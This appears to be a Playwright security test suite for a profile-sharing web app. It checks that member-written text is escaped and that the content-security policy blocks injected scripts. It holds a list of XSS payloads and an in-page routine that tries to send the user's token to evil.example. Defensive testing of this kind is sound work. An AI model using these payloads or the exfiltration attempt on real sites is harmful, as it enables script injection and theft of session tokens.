import type { Page } from "@playwright/test";
import { preferenceFields } from "@sanjog/domain/preferences/preference-fields";
import { careerFields } from "@sanjog/domain/profiles/career-fields";
import { familyFields } from "@sanjog/domain/profiles/family-fields";
import { type Fields, namesWhere } from "@sanjog/domain/profiles/field";
import { personalFields } from "@sanjog/domain/profiles/personal-fields";
import { expect, test } from "./stage.ts";

const alarm = "window.PWN=1";
/** Payloads that are tried wherever a page shows a text of another member. */
const payloads = [
  `<script>${alarm}</script>`,
  `"><script>${alarm}</script>`,
  `'><script>${alarm}</script>`,
  `</title><script>${alarm}</script>`,
  `</textarea><script>${alarm}</script>`,
  `<img src=x onerror="${alarm}">`,
  `<img src=x onerror=${alarm}//`,
  `<image/src/onerror=${alarm}>`,
  `<svg onload=${alarm}>`,
  `<svg><script>${alarm}</script></svg>`,
  `<svg><animate onbegin=${alarm} attributeName=x>`,
  `<body onload=${alarm}>`,
  `<iframe srcdoc="<script>parent.PWN=1</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.PWN=1</script>"></iframe>`,
  `<object data="data:text/html,x"></object>`,
  `<embed src="data:text/html,x">`,
  `<details open ontoggle=${alarm}>`,
  `<input autofocus onfocus=${alarm}>`,
  `<video><source onerror=${alarm}></video>`,
  `<math><mtext><img src=x onerror=${alarm}></mtext></math>`,
  `<a href="javascript:${alarm}">x</a>`,
  `" onfocus="${alarm}" autofocus="`,
  `' onmouseover='${alarm}`,
  `{{constructor.constructor('${alarm}')()}}`,
  `\${${alarm}}`,
  `<style>@import 'data:text/css,*{color:red}';</style>`,
  `<link rel=stylesheet href="data:text/css,x">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,x">`,
  `<form action="https://evil.example"><button formaction="javascript:${alarm}">x</button></form>`,
];

/** Every free-text field of a member. */
const fields: Fields = {
  ...preferenceFields,
  ...personalFields,
  ...familyFields,
  ...careerFields,
};
/** Texts with a fixed format that cannot contain a payload. */
const formed = ["dob", "pincode", "instagram_link", "facebook_link", "reference_contact"];
const written = new Set(
  namesWhere(fields, ({ kind }) => kind === "text").filter((name) => !formed.includes(name)),
);

const outside = "https://www.instagram.com/of.the.farm";

/** Puts all payloads into every such field of a response, and a link where one is allowed. */
function spoil(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(spoil);
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, inner]) => [
      name,
      name === "instagram_link"
        ? outside
        : written.has(name) && typeof inner !== "object"
          ? payloads.join(" ")
          : spoil(inner),
    ]),
  );
}

const injected = [
  "main script",
  "iframe",
  "object",
  "embed",
  "base",
  "math",
  "details[ontoggle]",
  "[onerror]",
  "[onload]",
  "[onfocus]",
  "[onmouseover]",
  'a[href^="javascript"]',
  'form[action*="evil"]',
].join();

async function openAll(page: Page, addresses: readonly string[]): Promise<number> {
  let shown = 0;
  for (const address of addresses) {
    await page.goto(address);
    await expect(page.locator("h1").first()).toBeVisible();
    await page.waitForLoadState("networkidle");
    const width = page.viewportSize()?.width;
    const found = await page.evaluate((selector) => {
      const field = [...document.querySelectorAll("input,textarea")].map(
        (one) => (one as HTMLInputElement).value,
      );
      return {
        alarmed: "PWN" in window,
        injected: [...document.querySelectorAll(selector)].map((one) => one.outerHTML.slice(0, 80)),
        shown: (document.body.innerText + field.join()).includes("<script>"),
        width: document.documentElement.scrollWidth,
      };
    }, injected);
    // A long word that makes the page wider moves buttons out of the phone's screen.
    expect({ address, ...found }).toEqual({
      address,
      alarmed: false,
      injected: [],
      shown: found.shown,
      width,
    });
    shown += Number(found.shown);
  }
  return shown;
}

test("X1, L7: what members write is shown as text on every screen, and no page contacts another host", async ({
  enter,
  tokenOf,
  baseURL,
}) => {
  const page = await enter({ token: await tokenOf("asha") });
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const strangers: string[] = [];
  const tellers: string[] = [];
  page.on("request", (request) => {
    const { protocol, origin } = new URL(request.url());
    if (!["blob:", "data:"].includes(protocol) && origin !== baseURL) strangers.push(request.url());
    if (request.headers().referer) tellers.push(request.url());
  });
  let other = "";
  await page.route("**/backend/api/**", async (route) => {
    // Ends the stream of live updates, so that the network becomes idle.
    if (route.request().url().endsWith("/live"))
      return route.fulfill({ status: 429, json: { message: "later" } });
    const answer = await route.fetch();
    if (!answer.headers()["content-type"]?.includes("json")) return route.fulfill({ response: answer });
    const told = await answer.json();
    other ||= told?.data?.data?.find?.((row: { user_id?: string }) => row.user_id)?.user_id ?? "";
    return route.fulfill({ response: answer, json: spoil(told) });
  });
  await openAll(page, ["/suggestion"]);
  await expect.poll(() => other).not.toBe("");
  const shown = await openAll(page, [
    "/home",
    `/view-profile/${other}`,
    "/summary-details",
    "/profile-registration-edit/personal",
    "/profile-registration-edit/family",
    "/profile-registration-edit/preference",
    "/notifications",
    "/biodata",
    "/privacy-setting",
    "/account",
  ]);
  // Most screens must show a member's text; otherwise this would prove nothing.
  expect(shown).toBeGreaterThanOrEqual(5);
  // A link to another site first shows its target, and the reader may stay.
  await page.goto(`/view-profile/${other}`);
  const link = page.locator(`a[href="${outside}"]`);
  await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
  await link.click();
  const question = page.getByRole("alertdialog");
  await expect(question).toContainText("www.instagram.com");
  await page.keyboard.press("Escape");
  await expect(question).toBeHidden();
  expect({ dialogs, strangers, tellers }).toEqual({ dialogs: [], strangers: [], tellers: [] });
});

const pages = `/ /login /register /otp-verification /forgot-password /reset-password?token=bogus /report /help
  /how-suggestions-work /about/numbers /terms-condition /privacy-policy /no/such/page /home /suggestion /summary-details /biodata
  /privacy-setting /account /notifications /backend/api/docs`.split(/\s+/);

type ScriptAttempts = { done: string[]; alarmed: boolean };

/** The attempts of an injected script. The page runs them itself, because the debugger's scripts have more rights. */
function tryAll(secret: string): Promise<ScriptAttempts> {
  const evil = `https://evil.example/?${secret}`;
  const attempts: Record<string, () => unknown> = {
    markup: () => {
      document.body.innerHTML += "<img src=x onerror='window.PWN=1'>";
    },
    code: () => new Function("window.PWN=1")(),
    script: () => {
      const script = document.createElement("script");
      script.textContent = "window.PWN=1";
      document.body.append(script);
      throw new Error("judged by the alarm");
    },
    link: () => {
      const link = document.createElement("a");
      link.setAttribute("href", ["java", "script:window.PWN=1"].join(""));
      document.body.append(link);
      link.click();
      throw new Error("judged by the alarm");
    },
    fetch: () => fetch(evil, { mode: "no-cors" }),
    image: () => {
      const image = new Image();
      image.src = evil;
      return image.decode();
    },
  };
  return new Promise((resolve) => {
    setTimeout(async () => {
      const done: string[] = [];
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt();
          done.push(name);
        } catch {
          // The policy blocked the attempt.
        }
      }
      resolve({ done, alarmed: "PWN" in window });
    });
  });
}

test("X3: on every page an injected script cannot run and cannot send the token anywhere", async ({
  browser,
  baseURL,
  tokenOf,
}) => {
  const token = await tokenOf("asha");
  const localStorage = [{ name: "token", value: token }];
  const context = await browser.newContext({
    storageState: { cookies: [], origins: [{ origin: baseURL ?? "", localStorage }] },
  });
  const reports: number[] = [];
  const escaped: string[] = [];
  context.on("response", (answer) => {
    if (answer.url().endsWith("/backend/csp-reports")) reports.push(answer.status());
  });
  context.on("requestfinished", (request) => {
    if (new URL(request.url()).origin === "https://evil.example") escaped.push(request.url());
  });
  const rules =
    `default-src 'none'; connect-src 'self'; base-uri 'none'; frame-ancestors 'none'; object-src 'none';
    require-trusted-types-for 'script'; report-uri /backend/csp-reports`.split(/;\s+/);
  for (const address of pages) {
    const answer = await context.request.get(address);
    const policy = answer.headers()["content-security-policy"] ?? "";
    for (const rule of rules) expect(policy, `${address}: ${rule}`).toContain(rule);
    expect(policy, address).not.toMatch(/unsafe-|\*|https?:/);
    expect(answer.headers()["referrer-policy"]).toBe("no-referrer");
  }
  const page = await context.newPage();
  // All pages of the app are one document; the others belong to the API.
  for (const address of ["/", "/login", "/home", "/no/such/page", "/backend/api/docs"]) {
    await page.goto(address, { waitUntil: "domcontentloaded" });
    expect({ address, ...(await page.evaluate(tryAll, token)) }).toEqual({
      address,
      done: [],
      alarmed: false,
    });
  }
  await expect.poll(() => reports.length).toBeGreaterThan(0);
  expect(reports.every((status) => status === 204)).toBe(true);
  expect(escaped).toEqual([]);
  await context.close();
});
